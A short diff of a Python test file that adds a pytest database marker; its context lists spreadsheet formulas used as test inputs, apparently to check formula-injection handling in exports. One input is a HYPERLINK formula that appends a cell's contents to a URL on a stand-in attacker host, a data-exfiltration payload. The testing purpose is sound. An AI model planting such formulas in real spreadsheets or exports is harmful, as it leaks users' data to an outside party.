@@ -16,6 +16,7 @@ from shanhe.store.models import Line
 
 from .conftest import Office
 
+pytestmark = pytest.mark.any_database
 FORMULAS = (
     "=1+1",
     '=HYPERLINK("http://evil.example/?"&A1,"点击")',
